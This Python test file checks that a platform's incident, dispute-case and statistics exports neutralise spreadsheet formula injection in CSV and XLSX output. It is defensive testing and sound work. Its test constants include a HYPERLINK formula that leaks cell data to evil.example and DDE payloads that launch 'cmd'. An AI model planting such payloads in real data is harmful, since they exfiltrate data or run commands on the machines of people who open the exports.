"""Formula injection in exports (issue 21, finding 8): text a caller wrote that starts with
``= + - @``, a tab or a carriage return leaves the platform neutralised (prefixed with ``'``)
in every CSV and XLSX, and XLSX text is a string cell, never a formula."""

import csv
import io
import re
import uuid
from datetime import UTC, datetime

import openpyxl
import pytest

from .conftest import sql

SUMMARY = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
ADDRESS = "+cmd|' /C calc'!A0"
ROLE = "@applicant"
AREA_NAME = "-2+3+cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def unescaped(text: str) -> bool:
    """Whether a cell's text would start a formula in a spreadsheet."""
    return text.startswith(TRIGGERS) and not PLAIN_NUMBER.match(text)


def csv_cells(answer) -> list[list[str]]:
    assert answer.status_code == 200, answer.text[:300]
    assert answer.headers["Content-Type"].startswith("text/csv")
    text = answer.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def assert_csv_neutralised(rows: list[list[str]], *expected: str) -> None:
    cells = [cell for row in rows for cell in row]
    hostile = [cell for cell in cells if unescaped(cell)]
    assert not hostile, hostile[:5]
    for text in expected:
        assert any(cell.startswith("'" + text) for cell in cells), f"{text!r} not exported"


def xlsx_sheet(answer):
    assert answer.status_code == 200, answer.text[:300]
    assert "spreadsheetml" in answer.headers["Content-Type"]
    return openpyxl.load_workbook(io.BytesIO(answer.content)).active


def assert_xlsx_neutralised(sheet, *expected: str) -> None:
    cells = [cell for row in sheet.iter_rows() for cell in row]
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert not formulas, formulas[:5]
    hostile = [c.value for c in cells if isinstance(c.value, str) and unescaped(c.value)]
    assert not hostile, hostile[:5]
    for text in expected:
        matching = [c for c in cells if isinstance(c.value, str) and c.value.startswith("'" + text)]
        assert matching, f"{text!r} not exported"
        assert all(cell.data_type == "s" for cell in matching)


@pytest.fixture
def officer_station(site):
    rows = sql(
        site,
        "SELECT a.id FROM accounts_user u JOIN areas_area a ON a.id = u.home_area_id "
        "WHERE u.username = 'officer'",
    )
    return rows[0][0]


@pytest.fixture
def hostile_incident(site, session_of, officer_station):
    """An incident the officer reported in their station with hostile summary and address."""
    lon, lat, category = sql(
        site,
        "SELECT i.lon, i.lat, c.code FROM incidents_incident i "
        "JOIN incidents_category c ON c.id = i.category_id "
        "WHERE i.station_id = %s AND i.lon IS NOT NULL ORDER BY i.id LIMIT 1",
        [officer_station],
    )[0]
    reference = f"export-{uuid.uuid4().hex[:12]}"
    answer = session_of("officer").post(
        "/api/v1/incidents/",
        {
            "source_system": "export-test",
            "source_ref": reference,
            "category": category,
            "reported_at": datetime.now(UTC).isoformat(),
            "lon": lon,
            "lat": lat,
            "address": ADDRESS,
            "summary": SUMMARY,
        },
    )
    assert answer.status_code in (200, 201), answer.text
    yield answer.json()
    sql(site, "DELETE FROM incidents_incident WHERE source_system = 'export-test'")


@pytest.fixture
def hostile_case(site, session_of, officer_station):
    """A dispute case with a hostile summary, address and party role."""
    dispute_type = sql(site, "SELECT code FROM mediation_disputetype ORDER BY id LIMIT 1")[0][0]
    answer = session_of("officer").post(
        "/api/v1/mediation/cases/",
        {
            "type": dispute_type,
            "summary": SUMMARY,
            "address": ADDRESS,
            "parties": [{"name": "张三", "phone": "13812345678", "role": ROLE}],
            "source": "walk_in",
            "risk": "low",
            "area": officer_station,
        },
    )
    assert answer.status_code == 201, answer.text
    case = answer.json()
    yield case
    case_id = "(SELECT id FROM mediation_disputecase WHERE public_id = %s)"
    for table in ("mediation_casestatuschange", "mediation_followup"):
        sql(site, f"DELETE FROM {table} WHERE case_id = {case_id}", [case["id"]])
    sql(site, "DELETE FROM mediation_disputecase WHERE public_id = %s", [case["id"]])


@pytest.fixture
def hostile_zone_name(site, officer_station):
    """A patrol zone of the officer's station renamed hostile, restored afterwards."""
    zone, name, name_en = sql(
        site,
        "SELECT id, name, name_en FROM areas_area WHERE parent_id = %s ORDER BY code LIMIT 1",
        [officer_station],
    )[0]
    sql(
        site,
        "UPDATE areas_area SET name = %s, name_en = %s WHERE id = %s",
        [AREA_NAME] * 2 + [zone],
    )
    try:
        yield zone
    finally:
        sql(
            site,
            "UPDATE areas_area SET name = %s, name_en = %s WHERE id = %s",
            [name, name_en, zone],
        )


def test_incident_csv_neutralises_formulas(session_of, hostile_incident):
    rows = csv_cells(session_of("officer").get("/api/v1/incidents/", params={"format": "csv"}))
    assert_csv_neutralised(rows, SUMMARY, ADDRESS)
    header = rows[0]
    ours = next(row for row in rows if row[header.index("summary")] == "'" + SUMMARY)
    assert ours[header.index("address")] == "'" + ADDRESS


@pytest.mark.parametrize("caller", ["session", "token"])
def test_dispute_case_exports_neutralise_formulas(caller, session_of, token_of, hostile_case):
    officer = (
        session_of("officer") if caller == "session" else token_of("officer", "mediation:read")
    )
    rows = csv_cells(officer.get("/api/v1/mediation/cases/", params={"format": "csv"}))
    assert_csv_neutralised(rows, SUMMARY, ADDRESS, ROLE)
    sheet = xlsx_sheet(officer.get("/api/v1/mediation/cases/", params={"format": "xlsx"}))
    assert_xlsx_neutralised(sheet, SUMMARY, ADDRESS, ROLE)


def test_statistics_table_exports_neutralise_names_and_keep_numbers(session_of, hostile_zone_name):
    officer = session_of("officer")
    params = {"by": "area"}
    rows = csv_cells(officer.get("/api/v1/stats/breakdown", params={**params, "format": "csv"}))
    assert_csv_neutralised(rows, AREA_NAME)
    sheet = xlsx_sheet(officer.get("/api/v1/stats/breakdown", params={**params, "format": "xlsx"}))
    assert_xlsx_neutralised(sheet, AREA_NAME)
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    for row in sheet.iter_rows(min_row=2):
        for name in ("count", "yoy_change", "pop_change"):
            cell = row[header.index(name)]
            assert cell.data_type == "n" and isinstance(cell.value, int | float), (name, cell)
